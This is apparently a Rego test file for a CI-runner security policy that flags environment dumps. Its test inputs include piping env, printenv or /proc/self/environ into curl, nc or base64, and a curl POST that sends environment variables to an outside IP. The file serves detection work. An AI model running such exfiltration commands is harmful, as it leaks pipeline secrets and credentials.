package sallyport.policies.environment_dump_test

import data.sallyport.policies.environment_dump

process(arguments) := {
	"executable": sprintf("/usr/bin/%s", [arguments[0]]), "script": "", "arguments": arguments, "executable_sha256": "",
	"executable_in_memory": false, "executable_deleted": false, "working_directory": "/home/runner/work/shop/shop", "uid": 1001, "effective_uid": 1001,
}

run(arguments, ancestry) := {
	"behaviour": {"kind": "exec", "program": arguments[0], "target": sprintf("/usr/bin/%s", [arguments[0]])},
	"process": process(arguments), "ancestry": [process(a) | some a in ancestry], "job": {"event": "push", "repository": "acme/shop", "action": ""},
	"baseline": {"stable": true, "known": true, "program_known": true, "reopened": ""},
}

pipe(writer, reader) := {
	"behaviour": {"kind": "pipe", "program": writer[0], "target": reader, "target_executable": sprintf("/usr/bin/%s", [reader])},
	"process": process(writer), "ancestry": [], "baseline": {"known": false},
}

test_environment_into_carriers_is_caught if {
	every reader in ["base64", "curl", "gzip", "openssl", "nc"] {
		count(environment_dump.violation) == 1 with input as pipe(["env"], reader)
		count(environment_dump.violation) == 1 with input as pipe(["printenv"], reader)
		count(environment_dump.violation) == 1 with input as pipe(["cat", "/proc/self/environ"], reader)
	}
}

test_environment_in_a_request_is_caught if {
	given := run(["curl", "-sm", "0.5", "-d", "git@x<<<<<< ENV PATH=/usr/bin\nHOME=/root\nGITHUB_SHA=abc\n", "http://203.0.113.9/upload/v2"], [])
	count(environment_dump.violation) == 1 with input as given
}

test_many_secrets_in_a_request_are_caught if {
	given := run(["curl", "-d", "a=[redacted:11111111]&b=[redacted:22222222]&c=[redacted:33333333]", "https://x.example.test"], [])
	count(environment_dump.violation) == 1 with input as given
}

test_looking_at_the_environment_is_clean if {
	every reader in ["sort", "grep", "less", "tee", "wc", "sed", "jq"] {
		count(environment_dump.violation) == 0 with input as pipe(["env"], reader)
	}
	count(environment_dump.violation) == 0 with input as pipe(["env", "FOO=1", "make"], "gzip")
	count(environment_dump.violation) == 0 with input as pipe(["printenv", "VERSION"], "base64")
}

test_ordinary_requests_are_clean if {
	every arguments in [
		["curl", "-H", "Authorization: Bearer [redacted:11111111]", "https://api.example.test"], ["curl", "-d", "PATH=/x", "https://api.example.test"],
		["curl", "-u", "u:[redacted:11111111]", "-H", "X: [redacted:22222222]", "https://api.example.test"], ["wget", "https://x.example.test/?HOME=1"],
	] {
		count(environment_dump.violation) == 0 with input as run(arguments, [])
	}
}
